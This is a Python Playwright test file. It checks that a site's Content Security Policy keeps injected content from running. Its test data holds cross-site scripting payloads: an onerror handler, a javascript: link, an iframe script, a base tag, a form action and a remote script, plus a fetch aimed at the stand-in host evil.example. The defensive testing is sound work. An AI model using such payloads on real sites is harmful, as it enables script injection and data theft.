"""What the browser does with the policy: our pages work under it, and what would get into one does not run."""

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Open, Watch
from tests.plugins.conftest import SCRIPT

LISTEN = """() => {
  window.stopped = [];
  document.addEventListener("securitypolicyviolation", (event) => window.stopped.push(event.effectiveDirective));
}"""
# As if nothing on the page had been escaped: its text is put in again as HTML, scripts and all.
UNESCAPED = """() => {
  const text = document.querySelector("main").innerText;
  const again = document.createRange().createContextualFragment(text);
  const found = again.querySelectorAll("script").length;
  document.body.append(again);
  return found;
}"""
OTHERS = """() => {
  document.body.insertAdjacentHTML("beforeend", `
    <img src="/static/none.png" onerror="window.ran = 'handler'">
    <a id="bad" href="javascript:window.ran = 'address'">x</a>
    <style>body { outline: 9px solid red }</style><p id="styled" style="outline: 9px solid red">x</p>
    <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe><base href="http://evil.example/">
    <form id="out" action="http://evil.example/"></form>`);
  document.querySelector("#bad").click();
  document.querySelector("#out").submit();
  const far = document.createElement("script");
  far.src = "http://evil.example/a.js";
  document.body.append(far);
  return fetch("http://evil.example/").then(() => "fetched", () => "stopped");
}"""

STOPPED = "one => window.stopped.includes(one)"


def stopped(page: Page) -> list[str]:
    """The directives that the browser stopped something by."""
    found: list[str] = page.evaluate("window.stopped")
    return found


def test_a_script_from_a_document_does_not_run_even_unescaped(open_page: Open, watches: list[Watch]) -> None:
    page = open_page("/search?q=alert")
    page.locator("main a[href^='/trips/']").first.click()
    expect(page.locator("main")).to_contain_text(SCRIPT)
    page.evaluate(LISTEN)
    assert page.evaluate(UNESCAPED) > 0
    page.wait_for_function("window.stopped.length > 0")
    assert set(stopped(page)) <= {"script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr"}
    assert watches[0].dialogs == []
    assert all("Content Security Policy" in error for error in watches[0].errors), watches[0].errors
    watches[0].errors.clear()


@pytest.mark.parametrize("path", ["/", "/kb/visit_log"], ids=["ours", "of Datasette"])
def test_nothing_else_that_gets_into_a_page_runs_or_leaves(open_page: Open, watches: list[Watch], path: str) -> None:
    page = open_page(path)
    failed: list[str | None] = []
    page.on("requestfailed", lambda request: failed.append(request.failure))
    page.evaluate(LISTEN)
    assert page.evaluate(OTHERS) == "stopped"
    for kind in ("script-src", "style-src"):
        page.wait_for_function(STOPPED, arg=f"{kind}-attr")
        page.wait_for_function(STOPPED, arg=f"{kind}-elem")
    for kind in ("connect-src", "base-uri", "form-action"):
        page.wait_for_function(STOPPED, arg=kind)
    assert page.evaluate("window.ran") is None
    assert page.evaluate("getComputedStyle(document.querySelector('#styled')).outlineStyle") == "none"
    assert page.evaluate("document.baseURI") == page.url
    assert set(failed) == {"csp"}, "what was asked of others was stopped before it left"
    watches[0].requests[:] = [url for url in watches[0].requests if url not in watches[0].outside]
    watches[0].errors.clear()


def test_the_sql_editor_and_the_menus_of_columns_work(open_page: Open) -> None:
    page = open_page("/kb?sql=select+id+from+themes+order+by+id")
    expect(page.locator(".CodeMirror")).to_be_visible()
    page.locator("#sql-format").click()
    expect(page.locator(".CodeMirror-line").nth(1)).to_be_visible()
    page.goto("/kb/institutions")
    page.locator("th.col-name_ko svg").click()
    expect(page.locator(".dropdown-menu")).to_be_visible()
